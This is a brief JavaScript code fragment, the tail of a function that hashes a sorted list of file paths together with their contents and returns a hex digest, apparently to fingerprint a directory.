  for (const e of entries.map((x) => join(x.parentPath, x.name)).sort()) hash.update(e).update(await readFile(e));
  return hash.digest('hex');
}
